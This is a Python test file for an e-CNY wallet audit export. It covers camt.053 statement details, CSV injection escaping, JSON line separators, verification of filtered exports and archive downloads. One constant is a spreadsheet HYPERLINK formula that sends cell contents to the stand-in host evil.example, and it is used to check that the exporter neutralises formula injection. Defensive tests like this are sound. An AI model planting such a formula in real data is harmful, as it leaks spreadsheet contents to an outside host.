"""Issue 14 items 22-25: camt.053 details, CSV injection and JSON line
separators, what a filtered export can and cannot check, and the export as
one archive."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import tarfile
import time
from datetime import timedelta

import pytest
import sqlalchemy as sa
from lxml import etree

from wallets.audit import digest as dg
from wallets.audit import export as ex
from wallets.audit.export import bundle
from wallets.audit.verify import verify_export
from wallets.core.errors import DomainError

NS = {"c": ex.CAMT_NS}
LONG_REF = "invoice 2026-12-01 / order 0042 / table 17 / thank you for visiting"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _pay(demo, src, dst, amount, ref=None, key="ICBC"):
    body = {"from_wallet": src, "to_wallet": dst, "amount": amount}
    if ref is not None:
        body["reference"] = ref
    return demo.ok("POST", "/v1/transfers", key=key, json=body)


def _entries(path):
    doc = etree.parse(str(path))
    return doc, list(doc.iterfind(".//c:Ntry", namespaces=NS))


def _seq_nbs(out):
    return {
        p.stem: etree.parse(str(p)).findtext(".//c:Stmt/c:ElctrncSeqNb", namespaces=NS)
        for p in (out / "camt053").glob("*.xml")
    }


def test_camt053_references_counterparties_and_sequence_numbers(
    demo, tmp_path, signing_key, camt_schema
):
    w = demo.demo_wallets
    _pay(demo, w["a"], w["b"], "1.00", LONG_REF)
    _pay(demo, w["a"], w["c"], "2.00", "across")  # ICBC -> BOC: via the settlement accounts
    out = tmp_path / "one"
    ex.export(demo.db, out, ex.parse_filters(), signing_key)
    doc_a, entries_a = _entries(out / "camt053" / f"{w['a']}.xml")
    camt_schema.assertValid(doc_a)

    # A reference longer than 35 characters: EndToEndId is its first 35, Ustrd holds it whole.
    long_entry = next(
        e for e in entries_a if e.findtext(".//c:RmtInf/c:Ustrd", namespaces=NS) == LONG_REF
    )
    assert long_entry.findtext(".//c:Refs/c:EndToEndId", namespaces=NS) == LONG_REF[:35]
    short = next(
        e for e in entries_a if e.findtext(".//c:RmtInf/c:Ustrd", namespaces=NS) == "across"
    )
    assert short.findtext(".//c:Refs/c:EndToEndId", namespaces=NS) == "across"

    # Across operators the counterparty is the other wallet, not a settlement account.
    assert short.findtext(".//c:RltdPties/c:DbtrAcct/c:Id/c:Othr/c:Id", namespaces=NS) == (
        f"W:{w['a']}:ECNY"
    )
    assert short.findtext(".//c:RltdPties/c:CdtrAcct/c:Id/c:Othr/c:Id", namespaces=NS) == (
        f"W:{w['c']}:ECNY"
    )
    doc_c, entries_c = _entries(out / "camt053" / f"{w['c']}.xml")
    camt_schema.assertValid(doc_c)
    incoming = next(
        e for e in entries_c if e.findtext(".//c:RmtInf/c:Ustrd", namespaces=NS) == "across"
    )
    assert incoming.findtext(".//c:RltdPties/c:DbtrAcct/c:Id/c:Othr/c:Id", namespaces=NS) == (
        f"W:{w['a']}:ECNY"
    )
    assert "SETTLEMENT" in incoming.findtext(".//c:AddtlTxInf", namespaces=NS)  # the legs stay said
    assert verify_export(out, signing_key.public_key()).verified

    # Statements are numbered per account across exports.
    first = _seq_nbs(out)
    assert set(first.values()) == {"1"}
    ex.export(demo.db, tmp_path / "two", ex.parse_filters(), signing_key)
    assert set(_seq_nbs(tmp_path / "two").values()) == {"2"}
    ex.export(demo.db, tmp_path / "a-only", ex.parse_filters(wallet=w["a"]), signing_key)
    assert _seq_nbs(tmp_path / "a-only") == {str(w["a"]): "3"}
    ex.export(demo.db, tmp_path / "csv-only", ex.parse_filters(formats="csv"), signing_key)
    ex.export(demo.db, tmp_path / "three", ex.parse_filters(), signing_key)
    third = _seq_nbs(tmp_path / "three")
    assert third[str(w["a"])] == "4" and third[str(w["b"])] == "3"
    camt_schema.assertValid(etree.parse(str(tmp_path / "three" / "camt053" / f"{w['b']}.xml")))


def test_csv_injection_and_line_separators(demo, tmp_path, signing_key, cli):
    w = demo.demo_wallets
    refs = [FORMULA, "+1-2", "-3", "@SUM(A1)", "'quoted", "line\u2028sep\u2029para", "plain"]
    for ref in refs:
        _pay(demo, w["a"], w["b"], "1.00", ref)
    out = tmp_path / "export"
    ex.export(demo.db, out, ex.parse_filters(), signing_key)
    raw = (out / "journal.csv").read_bytes()
    cells = [r["reference"] for r in csv.DictReader(io.StringIO(raw.decode()))][-len(refs) :]
    assert cells == [
        "'" + FORMULA,
        "'+1-2",
        "'-3",
        "'@SUM(A1)",
        "''quoted",
        "line\u2028sep\u2029para",
        "plain",
    ]
    assert [ex.csv_text_value(c) for c in cells] == refs
    # Numbers are never prefixed: a negative balance keeps its minus sign.
    assert b"'-" not in (out / "balances.csv").read_bytes()

    jsonl = (out / "journal.jsonl").read_bytes()
    assert "\u2028".encode() not in jsonl and "\u2029".encode() not in jsonl
    assert b'"line\\u2028sep\\u2029para"' in jsonl
    assert len(jsonl.splitlines()) == len(jsonl.split(b"\n")) - 1  # one line per row
    assert [json.loads(x)["reference"] for x in jsonl.splitlines()][-len(refs) :] == refs
    assert FORMULA.encode() in jsonl.replace(b'\\"', b'"')  # verbatim in JSON

    (tmp_path / "cb.pub").write_text(dg.public_key_pem(signing_key))
    out_text = cli("audit", "verify", out, "--public-key", tmp_path / "cb.pub")
    assert "EXPORT VERIFIED" in out_text and "journal copies" in out_text

    # Tampering with an escaped cell is still caught.
    (out / "journal.csv").write_bytes(raw.replace(b"'+1-2", b"'+1-3"))
    out_text = cli("audit", "verify", out, "--public-key", tmp_path / "cb.pub", code=1)
    assert "journal.csv: SHA-256 differs" in out_text
    assert "differs from journal.csv" in out_text and "reference" in out_text


def test_a_filtered_export_says_what_it_cannot_check(demo, tmp_path, signing_key, cli):
    w = demo.demo_wallets
    _pay(demo, w["a"], w["b"], "3.00")
    kept = demo.db.read(dg.take, signing_key).as_dict()  # its head is an ICBC payment
    (tmp_path / "digest.json").write_text(json.dumps(kept))
    _pay(demo, w["c"], w["a"], "1.00", key="BOC")
    _pay(demo, w["a"], w["b"], "4.00")
    out = tmp_path / "boc"
    ex.export(demo.db, out, ex.parse_filters(operator="BOC"), signing_key)
    (tmp_path / "cb.pub").write_text(dg.public_key_pem(signing_key))
    args = ("audit", "verify", out, "--public-key", tmp_path / "cb.pub")
    text = cli(*args, "--digest", tmp_path / "digest.json")
    assert f"[not checkable] digest of seq {kept['sequence']}" in text
    assert "[not checkable] journal chain: the signed head" in text
    assert "[ok] files:" in text and "[ok] control totals:" in text
    assert "EXPORT VERIFIED" in text and "not checkable" in text.splitlines()[-1]
    assert "cannot check" not in text and "[FAIL]" not in text
    # What can be checked still is.
    path = out / "journal.csv"
    path.write_text(path.read_text().replace(",1.00,100,", ",1.01,101,"))
    text = cli(*args, "--digest", tmp_path / "digest.json", code=1)
    assert "the hash does not recompute" in text and "[not checkable] digest" in text


def _wait(demo, job_id: int) -> dict:
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        job = demo.ok("GET", f"/v1/audit/exports/{job_id}", key="auditor")
        if job["status"] in ("succeeded", "failed"):
            return job
        time.sleep(0.05)
    raise AssertionError(job)


def test_an_export_in_one_archive_and_the_list_of_jobs(demo, tmp_path, cli):
    w = demo.demo_wallets
    _pay(demo, w["a"], w["c"], "5.00", FORMULA)
    ids = []
    for body in ({}, {"formats": ["csv"]}):
        r = demo.post("/v1/audit/exports", body, key="auditor")
        assert r.status_code == 202
        ids.append(r.get_json()["id"])
        assert _wait(demo, ids[-1])["status"] == "succeeded"
    job = demo.ok("GET", f"/v1/audit/exports/{ids[0]}", key="auditor")

    got = demo.get(f"/v1/audit/exports/{ids[0]}/archive", key="auditor")
    assert got.status_code == 200 and got.mimetype == "application/gzip"
    assert f'filename="export-job-{ids[0]}.tar.gz"' in got.headers["Content-Disposition"]
    archive = tmp_path / "export.tar.gz"
    archive.write_bytes(got.data)
    with tarfile.open(archive) as tar:
        members = tar.getmembers()
        names = [m.name for m in members]
        assert names == [f"export-job-{ids[0]}/{f['name']}" for f in job["files"]]
        for f, m in zip(job["files"], members, strict=True):
            data = tar.extractfile(m).read()
            assert len(data) == f["bytes"] and hashlib.sha256(data).hexdigest() == f["sha256"]
        tar.extractall(tmp_path / "unpacked", filter="data")
    pem = demo.ok("GET", "/v1/audit/digest", key="auditor")["public_key"]
    (tmp_path / "cb.pub").write_text(pem)
    report = verify_export(tmp_path / "unpacked" / f"export-job-{ids[0]}", dg.load_public_key(pem))
    assert report.verified, report.lines()
    # `ecny audit verify` takes the archive as it is.
    assert "EXPORT VERIFIED" in cli("audit", "verify", archive, "--public-key", tmp_path / "cb.pub")
    (tmp_path / "junk.tar.gz").write_bytes(b"not an archive")
    assert "not an export archive" in cli(
        "audit", "verify", tmp_path / "junk.tar.gz", "--public-key", tmp_path / "cb.pub", code=1
    )

    # The list of jobs: newest first, cursor pagination, auditors and admins only.
    page = demo.ok("GET", "/v1/audit/exports?limit=1", key="auditor")
    assert [j["id"] for j in page["items"]] == [ids[1]] and page["next_after"] == str(ids[1])
    rest = demo.ok("GET", f"/v1/audit/exports?after={page['next_after']}", key="admin")
    assert [j["id"] for j in rest["items"]] == [ids[0]] and rest["next_after"] is None
    assert demo.get("/v1/audit/exports", key="ICBC").status_code == 403
    assert demo.get("/v1/audit/exports?after=-1", key="auditor").status_code in (400, 422)

    # Not ready, unknown, out of range.
    from wallets.audit import export as exmod
    from wallets.core.principal import SYSTEM

    queued = demo.db.write(exmod.create_job, exmod.parse_filters(), SYSTEM)
    r = demo.get(f"/v1/audit/exports/{queued.id}/archive", key="auditor")
    assert r.status_code == 409 and r.get_json()["code"] == "export_not_ready"
    r = demo.get("/v1/audit/exports/999/archive", key="auditor")
    assert r.status_code == 404 and r.get_json()["code"] == "export_not_found"
    # Past the id column's range: no resource at that path at all.
    r = demo.get(f"/v1/audit/exports/{2**31}/archive", key="auditor")
    assert r.status_code == 404 and r.get_json()["code"] == "not_found"
    assert demo.get(f"/v1/audit/exports/{ids[0]}/archive", key="central_bank").status_code == 403


def _numbers(db) -> dict[int, int]:
    from wallets.core.schema import statement_numbers as sn

    return dict(
        db.read(lambda tx: tx.conn.execute(sa.select(sn.c.account_id, sn.c.last_number)).all())
    )


def test_a_wallet_opened_between_numbering_and_snapshot_gets_its_statement(
    demo, tmp_path, signing_key, monkeypatch, camt_schema
):
    w = demo.demo_wallets
    ex.export(demo.db, tmp_path / "first", ex.parse_filters(), signing_key)
    opened = []

    def open_one(export_id):
        if not opened:  # a wallet in scope, opened after the numbering
            opened.append(demo.wallet("ICBC", 1, fund="3.00"))

    monkeypatch.setattr(bundle, "before_snapshot", open_one)
    out = tmp_path / "second"
    ex.export(demo.db, out, ex.parse_filters(), signing_key)
    numbers = _seq_nbs(out)
    # The new wallet has its statement, numbered 1; the others theirs, numbered once.
    assert numbers[str(opened[0])] == "1"
    assert {numbers[str(w[k])] for k in "abc"} == {"2"}
    camt_schema.assertValid(etree.parse(str(out / "camt053" / f"{opened[0]}.xml")))
    assert verify_export(out, signing_key.public_key()).verified


def test_wallets_opened_at_every_attempt_fail_the_export_loudly(
    demo, tmp_path, signing_key, monkeypatch
):
    monkeypatch.setattr(bundle, "before_snapshot", lambda export_id: demo.wallet("ICBC", 1))
    with pytest.raises(DomainError) as err:
        ex.export(demo.db, tmp_path / "out", ex.parse_filters(), signing_key)
    assert err.value.code == "busy" and "had no statement number" in err.value.detail
    assert not (tmp_path / "out" / "manifest.json").exists()


def test_a_broken_chain_consumes_no_statement_number(demo, tmp_path, signing_key):
    from tests.audit.test_audit_checkpoints import _rewrite

    ex.export(demo.db, tmp_path / "first", ex.parse_filters(), signing_key)
    before = _numbers(demo.db)
    _rewrite(demo.db, 3, rehash=False)
    try:
        with pytest.raises(DomainError) as err:
            ex.export(demo.db, tmp_path / "broken", ex.parse_filters(), signing_key)
        assert err.value.code == "ledger_chain_broken"
        assert _numbers(demo.db) == before
    finally:
        _rewrite(demo.db, 3, rehash=False, shift=-timedelta(seconds=1))
    ex.export(demo.db, tmp_path / "again", ex.parse_filters(), signing_key)
    assert set(_seq_nbs(tmp_path / "again").values()) == {"2"}
